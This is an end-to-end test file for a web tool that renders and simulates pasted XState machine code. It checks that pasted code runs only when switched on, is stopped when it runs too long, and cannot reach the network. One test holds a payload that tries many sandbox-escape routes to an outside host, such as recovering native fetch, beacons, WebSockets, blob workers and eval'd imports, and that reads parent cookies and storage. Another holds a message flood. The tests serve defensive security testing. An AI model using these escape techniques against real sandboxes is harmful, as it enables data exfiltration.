import type { Page } from 'playwright-core';
import { expect } from 'vitest';
import { serveOnLoopback } from '#tests/support/loopback-server.ts';
import { journey } from './support/journey.ts';

const open = async (page: Page, text: string) => {
  await page.getByRole('button', { name: '打开', exact: true }).first().click();
  const dialog = page.getByRole('dialog');
  await dialog.getByLabel('状态机的文本').fill(text);
  await dialog.getByRole('button', { name: '打开', exact: true }).click();
};
const opened = (page: Page) => page.getByRole('list', { name: '已打开' }).getByRole('listitem');

const traffic = `
import { setup, createMachine, assign, fromPromise } from 'xstate';
import { helper } from './helpers';
type Context = { count: number };
const lamp = createMachine({ id: 'lamp', initial: 'off', states: { off: { on: { ON: 'on' } }, on: {} } });
export const traffic = setup({
  types: { context: {} as Context },
  actors: { lamp, load: fromPromise(async () => helper()) },
  actions: { count: assign({ count: ({ context }) => context.count + 1 }) },
}).createMachine({
  id: 'traffic',
  context: { count: 0 },
  initial: 'red',
  states: {
    red: { invoke: { src: 'lamp' }, on: { GO: { target: 'green', actions: 'count' } } },
    green: { invoke: { src: 'load', onDone: 'red' } },
  },
});`;

journey(
  'code that is pasted is drawn and simulated, with the machines that it starts, and is shared by an address',
  async ({ staff }) => {
    const { page } = staff;
    await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
    await page.goto('/machines');
    await open(page, traffic);
    await page.getByRole('heading', { name: 'traffic' }).waitFor();
    expect(await opened(page).count()).toBe(2);
    await page.getByRole('button', { name: /^状态 red/ }).waitFor();

    await page.getByRole('tab', { name: '模拟' }).click();
    const panel = page.getByRole('region', { name: '模拟控制' });
    await panel.getByRole('button', { name: '发送', exact: true }).click();
    await panel.getByText('green', { exact: true }).first().waitFor();
    await panel.getByText('count:').waitFor();

    await page.getByRole('tab', { name: '并排' }).click();
    await page
      .getByRole('region', { name: 'lamp' })
      .getByRole('button', { name: /^状态 off/ })
      .waitFor();

    await page.getByRole('tab', { name: '模拟' }).click();
    await page.getByRole('button', { name: '分享' }).click();
    await page.getByText('地址已复制').waitFor();
    const address = await page.evaluate(() => navigator.clipboard.readText());
    expect(address).toContain('#open=code.');
    const other = await page.context().newPage();
    await other.goto(address);
    await other.getByRole('heading', { name: 'traffic' }).waitFor();
    await other
      .getByRole('region', { name: '模拟控制' })
      .getByText('green', { exact: true })
      .first()
      .waitFor();
  },
);

const acting = `
import { createMachine, fromPromise, log } from 'xstate';
const wait = fromPromise(() => new Promise(resolve => setTimeout(() => resolve('late'), 0)));
export default createMachine({
  id: 'acting',
  initial: 'a',
  entry: log('started'),
  states: {
    a: { on: { GO: { target: 'b', actions: () => { throw new Error('it ran'); } }, SPIN: { target: 'd', actions: () => { for (;;) {} } } } },
    b: { invoke: { src: wait, onDone: 'c' } },
    c: {},
    d: {},
  },
});`;

journey(
  'actions and actors of pasted code run only when the person turns them on, and one without an end is stopped',
  async ({ staff }) => {
    const { page } = staff;
    await page.goto('/machines');
    await open(page, acting);
    await page.getByRole('heading', { name: 'acting' }).waitFor();
    await page.getByRole('tab', { name: '模拟' }).click();
    const panel = page.getByRole('region', { name: '模拟控制' });
    const actions = panel.getByRole('switch', { name: '运行动作' });
    const actors = panel.getByRole('switch', { name: '启动任务' });
    const press = async (event: string) => {
      await panel.getByRole('button', { name: event, exact: true }).click();
      await panel.getByRole('button', { name: '发送', exact: true }).click();
    };

    await panel.getByText('log', { exact: false }).first().waitFor();
    expect(await actions.isChecked()).toBe(false);
    expect(await actors.isChecked()).toBe(false);
    await press('GO');
    await panel.getByText('b', { exact: true }).first().waitFor();
    expect(await panel.getByText(/已运行|it ran/).count()).toBe(0);

    await actions.click();
    await panel.getByText(/log（.*（已运行）/).waitFor();
    await panel
      .getByText(/it ran/)
      .first()
      .waitFor();
    await actors.click();
    await panel.getByText('c', { exact: true }).first().waitFor();

    await actors.click();
    await panel.getByRole('button', { name: '重新开始', exact: true }).click();
    await panel.getByText('a', { exact: true }).first().waitFor();
    await press('SPIN');
    await panel.getByText(/没有在限定的时间内结束/).waitFor();
    await actions.click();
    await panel.getByText('d', { exact: true }).first().waitFor();
    expect(await panel.getByText(/没有在限定的时间内结束/).count()).toBe(0);
  },
);

/** Every way out that a worker has, also by what the stand-ins hide. */
const attack = (address: string) => `
const target = '${address}';
const socket = target.replace('http', 'ws');
const scope = [];
for (let object = globalThis; object; object = Object.getPrototypeOf(object)) scope.push(object);
const real = name => scope.map(object => Object.getOwnPropertyDescriptor(object, name)).find(found => found && String(found.value ?? found.get).includes('[native code]'));
const tries = {
  fetch: () => fetch(target + '/fetch'),
  realFetch: () => real('fetch').value.call(globalThis, target + '/real-fetch'),
  request: () => { const request = new XMLHttpRequest(); request.open('GET', target + '/request'); request.send(); },
  socket: () => new WebSocket(socket + '/socket'),
  events: () => new EventSource(target + '/events'),
  scripts: () => importScripts(target + '/scripts.js'),
  realScripts: () => real('importScripts').value.call(globalThis, target + '/real-scripts.js'),
  module: () => (0, eval)("import('" + target + "/module.js')"),
  beacon: () => navigator.sendBeacon(target + '/beacon'),
  realNavigator: () => real('navigator').get.call(globalThis).sendBeacon(target + '/real-beacon'),
  worker: () => new Worker(URL.createObjectURL(new Blob(["fetch('" + target + "/worker')"]))),
  made: () => Function('return this')().constructor.constructor("fetch('" + target + "/made')")(),
  storage: () => indexedDB.open('x'),
  parent: () => parent.document.cookie + top.location.href + window.parent.localStorage.x,
};
for (const attempt of Object.values(tries)) try { Promise.resolve(attempt()).catch(() => {}); } catch {}
export default { id: 'harmless', initial: 'a', states: { a: { on: { GO: 'b' } }, b: {} } };`;

journey('code that is pasted reaches neither the network nor the console', async ({ staff }) => {
  const { page, problems } = staff;
  // The browser writes on the console what the policy refuses.
  problems.expect(/Content Security Policy|violates|Refused to|blob:null/);
  const reached: string[] = [];
  const outside = await serveOnLoopback(() => (request, response) => {
    reached.push(request.url ?? '');
    response.end();
  });
  try {
    await page.goto('/machines');
    await page.locator('.chart-state').first().waitFor();
    // What the policy refuses is reported to the listener of requests, but never finishes.
    const requested: string[] = [];
    page.context().on('requestfinished', request => requested.push(request.url()));
    await open(page, attack(outside.url));
    await page.getByRole('heading', { name: 'harmless' }).waitFor();
    await page.getByRole('tab', { name: '模拟' }).click();
    await page
      .getByRole('region', { name: '模拟控制' })
      .getByRole('button', { name: '发送', exact: true })
      .click();
    await page.getByText('b', { exact: true }).first().waitFor();
    await page.waitForTimeout(1_500);
    expect(reached).toEqual([]);
    const own = new URL(page.url()).origin;
    expect(requested.filter(url => !url.startsWith('blob:') && !url.startsWith(own))).toEqual([]);
    expect(
      requested.filter(url =>
        /fetch|request|socket|events|scripts|module|beacon|made/.test(new URL(url).pathname),
      ),
    ).toEqual([]);
  } finally {
    await outside.close();
  }
});

journey(
  'code that never ends, or floods the page with messages, is stopped, and its text stays',
  async ({ staff }) => {
    const { page } = staff;
    await page.goto('/machines');
    await page.locator('.chart-state').first().waitFor();
    await open(page, 'for (;;) {}');
    const dialog = page.getByRole('dialog');
    await dialog.getByText('没有在限定的时间内结束').waitFor();
    expect(await dialog.getByLabel('状态机的文本').inputValue()).toBe('for (;;) {}');

    const flood = `const own = Object.getPrototypeOf(globalThis);
    const send = new MessageChannel().port1.postMessage;
    for (let object = globalThis; object; object = Object.getPrototypeOf(object)) delete object.postMessage;
    while (true) self.postMessage('x');`;
    await dialog.getByLabel('状态机的文本').fill(flood);
    await dialog.getByRole('button', { name: '打开', exact: true }).click();
    await dialog.getByText(/已停下|运行时出错/).waitFor();

    await dialog.getByLabel('状态机的文本').fill('const a = 1;\nconst b = ;\n');
    await dialog.getByRole('button', { name: '打开', exact: true }).click();
    await dialog.getByText('语法错误 · 第 2 行').waitFor();

    await dialog.getByLabel('状态机的文本').fill('{ "initial": "a", "states": { "a": {} } }');
    await dialog.getByRole('button', { name: '打开', exact: true }).click();
    await page.getByRole('heading', { name: 'machine' }).waitFor();
  },
);
